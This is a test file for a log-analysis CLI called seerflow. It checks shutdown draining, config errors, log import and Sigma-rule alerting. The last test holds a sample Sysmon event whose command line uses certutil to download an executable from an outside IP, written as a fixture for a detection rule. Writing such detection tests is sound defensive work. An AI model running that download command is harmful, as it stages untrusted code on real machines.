import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../main/storage/database.js';
import { collect, loopbackConfig, runCli, spawnCli, watchLogs } from './support/cli.js';
import { tempDir } from './support/appliance.js';

const CONFIG = loopbackConfig();

async function storedMessages(dbFile: string): Promise<string[]> {
  const db = await openDatabase(dbFile);
  try {
    return (await db('events').select('message').orderBy('seq')).map((row: { message: string }) => row.message);
  } finally {
    await db.destroy();
  }
}

describe('seerflow start', () => {
  it('drains on SIGTERM during ingestion: every accepted event is stored, then a summary, exit 0', async () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'seerflow.yaml'), CONFIG);
    const child = spawnCli(['start', '--config', 'seerflow.yaml'], { SEERFLOW_DATA_DIR: dir }, dir);
    const logs = watchLogs(child);
    const done = collect(child);
    const syslog = await logs.waitFor('syslog receiver listening');
    const otlp = await logs.waitFor('OTLP receiver listening');

    const lines = Array.from({ length: 5000 }, (_, i) => `<14>1 2026-11-30T10:00:00Z h app - - - tcp line ${i}`);
    const socket = net.connect(syslog.tcp as number, '127.0.0.1');
    await new Promise((resolve) => socket.once('connect', resolve));
    socket.end(`${lines.join('\n')}\n`);
    const posts = Array.from({ length: 20 }, (_, i) =>
      fetch(`http://127.0.0.1:${otlp.http as number}/v1/logs`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: `otlp ${i}` } }] }] }] }),
      }).then((r) => r.status, () => 0),
    );
    await new Promise((resolve) => setTimeout(resolve, 20));
    child.kill('SIGTERM');
    const statuses = await Promise.all(posts);
    const result = await done;
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/session summary: \d+ events, \d+ alerts, \d+ templates, [\d.]+ s, \d+ events\/s/);

    const stored = await storedMessages(path.join(dir, 'seerflow.db'));
    expect(stored.filter((m) => m.startsWith('tcp line'))).toHaveLength(5000);
    const acknowledged = statuses.filter((s) => s === 200).length;
    expect(stored.filter((m) => m.startsWith('otlp')).length).toBeGreaterThanOrEqual(acknowledged);
  });

  it('refuses a bad config with a message naming the key, exit 2', async () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'bad.yaml'), 'receivers:\n  syslog_udp_port: 99999\n  nonsense: 1\n');
    const result = await runCli(['start', '--config', path.join(dir, 'bad.yaml')]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('receivers.syslog_udp_port');
    expect(result.stderr).toContain('receivers.nonsense');
  });

  it('names the port when a receiver cannot bind', async () => {
    const dir = tempDir();
    const blocker = net.createServer().listen(0, '127.0.0.1');
    await new Promise((resolve) => blocker.once('listening', resolve));
    const port = (blocker.address() as net.AddressInfo).port;
    fs.writeFileSync(path.join(dir, 'seerflow.yaml'), CONFIG.replace('syslog_tcp_port: 0', `syslog_tcp_port: ${port}`));
    const result = await runCli(['start'], { env: { SEERFLOW_DATA_DIR: dir }, cwd: dir });
    blocker.close();
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`syslog TCP receiver: port ${port} is already in use`);
  });
});

describe('seerflow import and analyze', () => {
  it('imports plain and gzipped files into the store', async () => {
    const dir = tempDir();
    const plain = path.join(dir, 'auth.log');
    const gz = path.join(dir, 'old.log.gz');
    fs.writeFileSync(plain, 'Nov 30 10:00:00 web01 sshd[1]: Accepted publickey for alice from 10.0.0.5 port 5000 ssh2\n{"message":"json line","user":"bob"}\n');
    fs.writeFileSync(gz, zlib.gzipSync('gz line 1\ngz line 2'));
    const result = await runCli(['import', plain, gz, '--config', '/dev/null'], { env: { SEERFLOW_DATA_DIR: dir } });
    expect(result.stderr).toContain('session summary: 4 events');
    expect(result.code).toBe(0);
    expect((await storedMessages(path.join(dir, 'seerflow.db'))).sort()).toEqual([
      'Accepted publickey for alice from 10.0.0.5 port 5000 ssh2',
      'gz line 1',
      'gz line 2',
      'json line',
    ]);
  });

  it('refuses binary and missing inputs clearly', async () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'x.bin'), Buffer.from([1, 0, 2, 0]));
    const binary = await runCli(['import', path.join(dir, 'x.bin')], { env: { SEERFLOW_DATA_DIR: dir } });
    expect(binary.code).toBe(2);
    expect(binary.stderr).toContain('looks binary');
    const missing = await runCli(['analyze', path.join(dir, 'nope.log')], { env: { SEERFLOW_DATA_DIR: dir } });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('no such file');
  });

  it('analyzes stdin in memory: nothing but alerts on stdout, nothing persisted', async () => {
    const dir = tempDir();
    const lines = [
      'Nov 30 10:00:00 web01 sshd[4260]: Accepted password for root from 203.0.113.7 port 40222 ssh2',
      'Nov 30 10:00:01 web01 sshd[4261]: Accepted publickey for alice from 198.51.100.4 port 50022 ssh2',
      // No syslog header: not known to come from sshd, so the sshd rules stay silent.
      'Accepted password for root from 198.51.100.9 port 22 ssh2',
      'another line',
    ];
    const result = await runCli(['analyze', '-'], { env: { SEERFLOW_DATA_DIR: dir }, stdin: `${lines.join('\n')}\n` });
    expect(result.code).toBe(0);
    const alerts = result.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    // The bundled Sigma pack: both sshd logins are successful logins (informational), the first
    // also a root password login; the line without a header raises nothing.
    expect(alerts.map((a) => `${a.alert_type} ${a.rule_name} @ ${a.entity_value}`).sort()).toEqual([
      'sigma Root Logged In Over SSH With a Password @ 203.0.113.7',
      'sigma Successful SSH Login @ 198.51.100.4',
      'sigma Successful SSH Login @ 203.0.113.7',
    ]);
    expect(alerts.find((a) => a.rule_name === 'Root Logged In Over SSH With a Password')).toMatchObject({
      severity_text: 'Error',
      mitre_tactics: ['initial_access', 'persistence', 'lateral_movement'],
      mitre_techniques: ['T1078.003', 'T1021.004'],
      details: expect.objectContaining({ rule_id: '291e3387-4809-47f7-9c96-6dfbf52dd816', origin: 'bundled' }),
    });
    expect(result.stderr).toContain('session summary: 4 events, 3 alerts');
    expect(fs.existsSync(path.join(dir, 'seerflow.db'))).toBe(false);
  });

  it('analyzes a Windows event export (evtx_dump JSON, pretty-printed, back to back) with the Sigma rules', async () => {
    const dir = tempDir();
    const record = (id: number, commandLine: string) => ({
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 1,
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: 'ws1.corp.example',
          EventRecordID: id,
          TimeCreated: { '#attributes': { SystemTime: '2026-11-30T09:00:00.123456Z' } },
        },
        EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: commandLine, User: 'CORP\\bob' },
      },
    });
    const file = path.join(dir, 'sysmon.json');
    const benign = record(2, 'certutil -hashfile report.pdf SHA256');
    fs.writeFileSync(file, `${JSON.stringify(record(1, 'certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe'), null, 2)}\n${JSON.stringify(benign, null, 2)}\n`);
    const result = await runCli(['analyze', file], { env: { SEERFLOW_DATA_DIR: dir } });
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('session summary: 2 events');
    const alerts = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(alerts.map((a) => a.rule_name)).toContain('Certutil Used to Download a File');
    const certutil = alerts.find((a) => a.rule_name === 'Certutil Used to Download a File')!;
    expect(certutil).toMatchObject({ alert_type: 'sigma', timestamp_ns: '1796029200123456000' });
    expect(certutil.mitre_techniques).toContain('T1105');
  });
});
